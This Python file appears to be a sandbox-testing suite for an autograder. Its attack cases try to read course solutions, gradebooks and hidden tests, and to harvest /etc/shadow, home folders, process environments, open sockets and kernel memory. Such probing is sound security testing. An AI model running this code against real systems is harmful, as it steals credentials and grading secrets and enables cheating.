"""Read what is hidden on the disk, in processes and in the kernel."""

from attacks import Attack, in_cell, in_right_call

ATTACKS: list[Attack] = [
    in_cell(
        "course files",
        "Open the solutions, the gradebook, the store and other submissions by their paths.",
        """
        import glob

        for place in ("solutions", "submitted", "autograded", "feedback", ".cs_grader",
                      "gradebook.db", "nbgrader_config.py"):
            path = os.path.join("@COURSE@", place)
            attempt("look into " + place, lambda: os.stat(path) and os.listdir(path))
            for file in glob.glob(path + "/**/*", recursive=True) + [path]:
                with contextlib.suppress(OSError), open(file, "rb") as opened:
                    loot(file, opened.read())
        attempt("read a solution",
                lambda: open("@COURSE@/solutions/a1_loss_functions/a1_loss_functions.ipynb").read())
        """,
    ),
    in_cell(
        "repository",
        "Open the public solutions and the tests in the repository that the grader runs from.",
        """
        for place in ("solutions", "tests", "assignments", ".git", "cs_core", "docs"):
            attempt("look into " + place, lambda: os.listdir(os.path.join("@REPO@", place)))
        """,
    ),
    in_cell(
        "home",
        "Look into the operator's home and other places where secrets lie.",
        """
        for place in ("@HOME@", "/root", "/home", "/var/mail", "/run/secrets", "/etc/shadow",
                      "/srv", "/mnt", "/media", "/work", "/opt"):
            def look():
                if os.path.isdir(place):
                    return os.listdir(place) or no_such_thing
                return open(place).read()
            if not sys.base_prefix.startswith(place):  # the interpreter itself may lie there
                attempt("look into " + place, look)
        for place in ("~", "~root", "~nobody"):
            loot(place, os.path.expanduser(place))
        """,
    ),
    in_cell(
        "whole disk",
        "Walk over everything that is there and read every small file that looks interesting.",
        """
        seen = looked = 0
        for root, folders, files in os.walk("/"):
            if root == "/":
                folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")]
            dull = ("site-packages", "__pycache__", "test", "idlelib", "lib-dynload", "ensurepip")
            folders[:] = [f for f in folders if f not in dull]
            for file in files:
                seen += 1
                with contextlib.suppress(OSError):
                    path = os.path.join(root, file)
                    if os.path.isfile(path) and os.path.getsize(path) < 2**21:
                        with open(path, "rb") as opened:
                            looked += loot(path, opened.read())
        print("saw", seen, "files, read", looked, "bytes")
        """,
    ),
    in_cell(
        "environment",
        "Read environment variables, also those of other processes and of the C library.",
        """
        import ctypes

        loot("os.environ", os.environ)
        loot("os.environb", dict(os.environb))
        environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
        i = 0
        while environ and environ[i]:
            loot("environ", environ[i])
            i += 1
        with contextlib.suppress(OSError):
            loot("own", open("/proc/self/environ", "rb").read())
        with contextlib.suppress(OSError):
            loot("first", open("/proc/1/environ", "rb").read())
        """,
    ),
    in_cell(
        "processes",
        "Read what /proc tells of every process that can be seen.",
        """
        others = 0
        for pid in filter(str.isdigit, os.listdir("/proc")):
            others += int(pid) != os.getpid()
            for name in ("cmdline", "environ", "maps", "status", "stack", "mounts", "mountinfo"):
                with contextlib.suppress(OSError):
                    loot(f"/proc/{pid}/{name}", open(f"/proc/{pid}/{name}", "rb").read())
            for name in ("cwd", "root", "exe"):
                with contextlib.suppress(OSError):
                    place = f"/proc/{pid}/{name}"
                    loot(place, os.readlink(place) + " ".join(os.listdir(place + "/")))
        print("saw", others, "other processes")
        """,
    ),
    in_cell(
        "descriptors",
        "Read from every open file descriptor, and look where it leads.",
        """
        import socket, stat

        for fd in range(256):
            with contextlib.suppress(OSError):
                kind = os.fstat(fd).st_mode
                link = os.readlink(f"/proc/self/fd/{fd}")
                print(fd, stat.filemode(kind))
                loot(f"fd {fd}", link)
                if stat.S_ISDIR(kind):
                    attempt(f"folder at {fd}", lambda: os.listdir(fd))
                    attempt(f"above {fd}", lambda: os.listdir(os.open("..", 0, dir_fd=fd)))
                if stat.S_ISSOCK(kind):
                    with socket.socket(fileno=os.dup(fd)) as other:
                        loot(f"fd {fd}", other.recv(2**20, socket.MSG_PEEK | socket.MSG_DONTWAIT))
                if stat.S_ISREG(kind):
                    loot(f"fd {fd}", os.pread(fd, 2**22, 0))
        """,
    ),
    in_right_call(
        "descriptors in a call",
        "Peek into the socket while the hidden tests run.",
        """
        import socket

        for fd in range(64):
            with contextlib.suppress(OSError):
                with socket.socket(fileno=os.dup(fd)) as other:
                    flags = socket.MSG_PEEK | socket.MSG_DONTWAIT
                    LOOT.append(str(other.recv(2**20, flags)))
        """,
    ),
    in_cell(
        "shared memory",
        "Look for memory, queues and keys that processes share.",
        """
        for place in ("/proc/sysvipc/shm", "/proc/sysvipc/msg", "/proc/sysvipc/sem"):
            with contextlib.suppress(OSError):
                lines = open(place).read().splitlines()[1:]
                if lines:
                    print("attack worked: others' objects in", place, lines)
        for place in ("/dev/shm", "/dev/mqueue", "/tmp", "/var/tmp", "/run"):
            with contextlib.suppress(OSError):
                print(place, os.listdir(place))
        """,
    ),
    in_cell(
        "kernel",
        "Read the kernel's log and memory.",
        """
        for place in ("/dev/kmsg", "/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/sda", "/dev/vda",
                      "/proc/self/root/../@COURSE@", "/proc/1/root/@COURSE@"):
            attempt("open " + place, lambda: os.open(place, os.O_RDONLY | os.O_NONBLOCK))
        """,
    ),
    in_cell(
        "paths told",
        "Learn names of the operator's folders from mounts, paths and the interpreter.",
        """
        places = [*sys.path, sys.prefix, sys.executable, os.getcwd(), *os.environ.values()]
        places += open("/proc/self/mountinfo").read().split()
        told = {p for p in places if p.startswith(("@COURSE@", "@HOME@"))}
        if told:
            print("attack worked: told", told)
        """,
    ),
    in_cell(
        "beside the interpreter",
        "Look beside Python, and in /usr, for packages, settings and nbgrader's exchange.",
        """
        allowed = {"/usr": {"bin", "lib", "lib32", "lib64", "share"},
                   "/usr/share": {"zoneinfo"}, sys.base_prefix: {"bin", "lib", "lib64", "share"}}
        for place in ("/usr", "/usr/share", "/usr/local", "/opt", "/srv", "/var", "/home", "/mnt",
                      "/usr/local/share/nbgrader/exchange", "/etc/jupyter", sys.base_prefix,
                      sys.base_prefix + "/share", sys.base_prefix + "/etc", "/usr/lib/python3",
                      sys.base_prefix + "/conda-meta", sys.base_prefix + "/pkgs"):
            if os.path.isdir(place):
                more = set(os.listdir(place)) - allowed.get(place, {"zoneinfo"})
                if more:
                    print("attack worked: beside Python:", place, sorted(more)[:5])
        for name in ("scipy", "torch", "sklearn", "jax", "sympy", "nbgrader", "pip", "autograd"):
            for root in ("/usr", "/opt", sys.base_prefix, "/grading"):
                for folder, inner, _ in os.walk(root):
                    if name in inner and "/test" not in folder:
                        print("attack worked: a package:", folder, name)
        for program in ("octave", "R", "julia", "perl", "gcc", "pip", "conda", "python3", "maxima"):
            if __import__("shutil").which(program):
                print("attack worked: a program:", program)
        """,
    ),
]
